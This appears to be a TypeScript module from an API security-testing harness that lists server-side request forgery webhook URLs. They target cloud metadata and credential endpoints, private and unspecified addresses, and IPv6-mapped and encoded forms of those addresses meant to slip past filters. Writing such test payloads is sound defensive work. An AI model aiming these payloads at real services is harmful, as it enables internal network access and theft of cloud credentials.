/**
 * Webhook URLs that point inside the target's own network (OWASP API7:2023, server-side request forgery), in
 * groups, each with the addresses' source. Literals only: a metadata *name* (metadata.google.internal) is a DNS
 * question whose answer depends on where the target runs, so it proves nothing here. Loopback is never among
 * them: a local target accepts it for the harness's own receiver (PROFILE "Accounts, ownership and exposure").
 */
export interface SsrfGroup {
  key: 'metadata' | 'private' | 'unspecified' | 'ipv4-mapped' | 'encoded';
  title: string;
  urls: readonly string[];
}

export const SSRF_GROUPS: readonly SsrfGroup[] = [
  {
    key: 'metadata',
    title: 'cloud metadata and link-local addresses (169.254.169.254, fd00:ec2::254, 169.254.170.2, 169.254/16, fe80::/10)',
    urls: [
      'http://169.254.169.254/latest/meta-data/',
      'http://[fd00:ec2::254]/latest/meta-data/',
      'http://169.254.170.2/v2/credentials',
      'http://169.254.1.1/hook',
      'http://[fe80::1]/hook',
    ],
  },
  {
    key: 'private',
    title: 'private networks (10/8, 172.16/12, 192.168/16, fc00::/7)',
    urls: ['http://10.0.0.1/hook', 'http://172.16.0.1/hook', 'http://172.31.255.254/hook', 'http://192.168.0.1/hook', 'http://[fc00::1]/hook', 'http://[fd12:3456:789a::1]/hook'],
  },
  {
    key: 'unspecified',
    title: 'the unspecified address (0.0.0.0, ::), which many systems connect to as their own host',
    urls: ['http://0.0.0.0/hook', 'http://[::]/hook'],
  },
  {
    key: 'ipv4-mapped',
    title: 'IPv4-mapped IPv6 forms of internal addresses ([::ffff:169.254.169.254], [::ffff:a9fe:a9fe], [::ffff:10.0.0.1])',
    urls: ['http://[::ffff:169.254.169.254]/latest/meta-data/', 'http://[::ffff:a9fe:a9fe]/latest/meta-data/', 'http://[::ffff:10.0.0.1]/hook'],
  },
  {
    key: 'encoded',
    title: 'IPv4 addresses not written in dotted decimal (decimal 2852039166, octal 0251.0376.0251.0376, hex 0xa9fea9fe, 0xa9.0xfe.0xa9.0xfe, 169.254.43518)',
    urls: ['http://2852039166/latest/meta-data/', 'http://0251.0376.0251.0376/latest/meta-data/', 'http://0xa9fea9fe/latest/meta-data/', 'http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/', 'http://169.254.43518/latest/meta-data/'],
  },
];
